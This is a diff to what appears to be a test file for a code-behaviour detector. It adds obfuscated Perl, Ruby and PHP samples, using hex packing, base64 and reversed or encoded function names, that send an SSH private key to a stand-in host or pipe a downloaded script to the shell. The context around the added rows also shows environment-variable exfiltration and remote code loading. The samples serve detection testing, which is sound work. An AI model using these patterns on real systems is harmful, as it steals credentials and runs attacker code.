@@ -118,6 +118,16 @@ describe('what leaves and what runs', () => {
     ['r', 'local({\n  e <- Sys.getenv()\n  httr::POST("https://h.test", body = e)\n})', 'env:* network:body h.test'],
     ['r', 'source("https://h.test/a.R")', 'net run-file:code h.test'],
     ['pl', 'use LWP::Simple;\neval get("https://h.test/a");', 'net evaluate:code h.test'],
+    // What texts come to: packed letters, a change in place, names turned round and called.
+    [
+      'pl',
+      `my $w = pack('H*', '6375726c202d6673204070'); $w =~ s/\\@p/https:\\/\\/h.test\\/w/;\nsystem("$w --data-binary \\@/root/.ssh/id_rsa");`,
+      'content:ssh network:body h.test',
+    ],
+    ['rb', 'system(["Y3VybCBodHRwczovL2gudGVzdC9pLnNoIHwgc2g="].pack("m"))', 'net shell:stdin h.test'],
+    ['php', "$f = strrev('metsys'); $f('curl https://h.test/i.sh | sh');", 'net shell:stdin h.test'],
+    ['php', "$f = str_replace('x', '', 'sxysxtem'); $f('curl https://h.test/i.sh | sh');", 'net shell:stdin h.test'],
+    ['php', "$f = hex2bin('73797374656d'); $f('curl https://h.test/i.sh | sh');", 'net shell:stdin h.test'],
     [
       'rs',
       'let key = fs::read_to_string("/root/.ssh/id_rsa")?;\nCommand::new("curl").arg("-d").args([key, "https://h.test"]).status()?;',
